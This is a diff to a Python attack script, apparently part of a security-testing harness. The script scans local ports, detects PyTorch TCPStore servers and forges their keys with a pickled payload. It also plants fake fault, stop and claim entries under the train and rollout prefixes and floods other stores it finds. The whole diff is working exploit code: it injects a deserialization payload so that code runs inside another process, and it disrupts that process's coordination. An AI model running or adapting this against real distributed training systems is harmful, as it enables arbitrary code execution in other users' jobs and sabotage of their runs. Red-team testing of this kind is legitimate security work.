@@ -54,24 +54,23 @@ def is_torch_store(port: int) -> bool:
     return False
 
 
-def forge(port: int, payload: bytes, found: Counter) -> None:
+def forge(port: int, payload: bytes, found: Counter, forged: set[str]) -> None:
     """Write what a run could read into torch's store, under every prefix that it has."""
     store = TCPStore("127.0.0.1", port, is_master=False, timeout=datetime.timedelta(seconds=2))
-    present = store.list_keys()
+    present = set(store.list_keys()) - forged
     found["keys of the project"] += sum(any(word in key for word in WORDS) for key in present)
     found["keys"] += len(present)
     prefixes = {"", "default_pg/"} | {key.partition("default_pg/")[0] + "default_pg/" for key in present}
     prefixes |= {f"{prefix}{role}/default_pg/" for prefix in set(prefixes) for role in ("train", "rollout")}
     for prefix in prefixes:
-        for number in range(40):
-            store.set(f"{prefix}asks/{number}", payload)
-            store.set(f"{prefix}claims/{number}", "0")
-        store.set(f"{prefix}lockstep-faults/first", FAULT)
-        store.set(f"{prefix}faults/first", FAULT)
-        store.set(f"{prefix}stop", "5")
-        store.set(f"{prefix}asks/end", "3")
-        store.set(f"{prefix}claims/next", "1000")
-        store.set(f"{prefix}living/list", "[0]")
+        values = {f"asks/{number}": payload for number in range(40)}
+        values |= {f"claims/{number}": "0" for number in range(40)}
+        values |= {"lockstep-faults/first": FAULT, "faults/first": FAULT, "stop": "5", "asks/end": "3"}
+        values |= {"claims/next": "1000", "living/list": "[0]"}
+        for name, value in values.items():
+            forged.add(prefix + name)
+            store.set(prefix + name, value)
+        forged.add(f"{prefix}link/samples")
         store.queue_push(f"{prefix}link/samples", "[1, 64]")
     found["forged"] += 1
 
@@ -102,7 +101,7 @@ def disturb(port: int, found: Counter) -> bool:
 def main(path: str) -> None:
     give_up_rights()
     payload, found, ports, held = pickle.dumps(Payload(path)), Counter(), [], []
-    rounds, stores, torch_stores = Counter(), set(), set()
+    rounds, stores, torch_stores, forged = Counter(), set(), set(), set()
     print("ready", flush=True)
     while True:
         if select.select([sys.stdin], [], [], 0)[0]:
@@ -117,7 +116,7 @@ def main(path: str) -> None:
             if port in torch_stores or (rounds[port] == 1 and is_torch_store(port)):
                 torch_stores.add(port)
                 with contextlib.suppress(RuntimeError):
-                    forge(port, payload, found)
+                    forge(port, payload, found, forged)
             elif disturb(port, found):
                 stores.add(port)
                 for _ in range(FLOOD):
